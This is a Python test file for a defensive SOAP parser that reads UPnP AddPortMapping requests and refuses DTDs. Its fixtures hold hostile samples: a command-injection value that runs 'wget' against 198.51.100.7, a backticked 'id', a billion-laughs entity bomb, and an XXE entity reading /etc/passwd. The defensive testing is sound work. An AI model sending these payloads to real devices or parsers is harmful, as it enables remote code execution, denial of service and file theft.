"""SOAP reading through defusedxml: any prefix, entities decoded, bombs and DTDs refused."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teiten.classify.soap import MAX_ARGS, _parse, header_action, looks_like_soap, parse_soap

ENV = ('<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
       "<s:Body>{}</s:Body></s:Envelope>")  # fmt: skip
CALL = ("<{p}AddPortMapping {ns}><NewRemoteHost></NewRemoteHost>"
        "<NewInternalClient>`cd /tmp &amp;&amp; wget http://198.51.100.7/a`</NewInternalClient>"
        "</{p}AddPortMapping>")  # fmt: skip
WANIP = "urn:schemas-upnp-org:service:WANIPConnection:1"
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">'
              for i in range(1, 10))
    + ']><s:Envelope xmlns:s="e"><s:Body><u:X xmlns:u="x"><A>&lol9;</A></u:X></s:Body>'
    "</s:Envelope>"
)  # fmt: skip


@pytest.mark.parametrize("prefix", ["u", "m", "s", ""])
def test_any_prefix_gives_the_same_call(prefix: str) -> None:
    p = f"{prefix}:" if prefix else ""
    ns = f'xmlns:{prefix}="{WANIP}"' if prefix else f'xmlns="{WANIP}"'
    if prefix == "s":  # the envelope's own prefix, redeclared on the call
        ns = f'xmlns:s="{WANIP}"'
    m = parse_soap(ENV.format(CALL.format(p=p, ns=ns)).encode(), f'"{WANIP}#AddPortMapping"')
    assert (m.action, m.namespace, m.notes) == ("AddPortMapping", WANIP, ())
    assert m.arguments == {
        "NewRemoteHost": "",
        "NewInternalClient": "`cd /tmp && wget http://198.51.100.7/a`",
    }
    assert m.header_action == f"{WANIP}#AddPortMapping"
    assert m.actions() == ("AddPortMapping", f"{WANIP}#AddPortMapping")


def test_billion_laughs_is_refused_not_expanded() -> None:
    m = parse_soap(BILLION_LAUGHS.encode())
    assert m.notes and "refused" in m.notes[0] and "DTDForbidden" in m.notes[0]
    assert m.action == "X" and m.args == (("A", "&lol9;"),)  # read leniently, nothing expanded


def test_external_entity_and_dtd_are_refused() -> None:
    xxe = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           "<u:X xmlns:u='x'><A>&e;</A></u:X>")  # fmt: skip
    m = parse_soap(xxe.encode())
    assert "refused" in m.notes[0] and m.arguments == {"A": "&e;"}


def test_broken_xml_is_read_leniently() -> None:
    broken = b"<s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`id`&amp;x</NewInternal"
    m = parse_soap(broken + b"Client><NewEnabled>1</NewEnabled>")
    assert "not well-formed" in m.notes[0]
    assert m.action == "AddPortMapping"
    assert m.arguments == {"NewInternalClient": "`id`&x", "NewEnabled": "1"}


def test_bounds() -> None:
    many = "".join(f"<A{i}>x</A{i}>" for i in range(500))
    m = parse_soap(ENV.format(f"<u:X xmlns:u='x'>{many}</u:X>").encode())
    assert len(m.args) == MAX_ARGS
    deep = b"<a>" * 30000 + b"</a>" * 30000
    assert parse_soap(deep).notes  # cut at 64 KiB, so not well-formed; no recursion


def test_cached_result_equals_a_fresh_parse() -> None:
    body = ENV.format(CALL.format(p="u:", ns=f'xmlns:u="{WANIP}"')).encode()
    first, again = parse_soap(body, "a"), parse_soap(body, "a")
    assert first is again and first == _parse(body, "a")
    assert parse_soap(body, "b").header_action == "b"  # the header is part of the key
    big = body.replace(b"<NewRemoteHost></NewRemoteHost>", b"<X>" + b"y" * 5000 + b"</X>")
    assert parse_soap(big) is not parse_soap(big) and parse_soap(big) == parse_soap(big)


def test_detection_and_header() -> None:
    assert looks_like_soap(b"", "x", None)
    assert looks_like_soap(b"<a/>", None, "text/xml; charset=utf-8")
    assert looks_like_soap(b"  <?xml version='1.0'?><a/>", None, None)
    assert not looks_like_soap(b"a=1&b=2", None, "application/x-www-form-urlencoded")
    assert header_action(' "urn:x#Y" ') == "urn:x#Y"


@given(st.binary(max_size=2048), st.none() | st.text(max_size=40))
def test_garbage_never_raises(data: bytes, action: str | None) -> None:
    m = parse_soap(data, action)
    assert len(m.args) <= MAX_ARGS


XML_PARTS = ["<a>", "</a>", "<u:B x='1'>", "</u:B>", "&amp;", "&x;", "<!DOCTYPE a>",
             "<?xml version='1.0' encoding='nope'?>", "text", "<", ">", "]]>"]  # fmt: skip


@given(st.lists(st.sampled_from(XML_PARTS), max_size=40))
def test_xml_shaped_garbage_never_raises(parts: list[str]) -> None:
    parse_soap("".join(parts).encode())
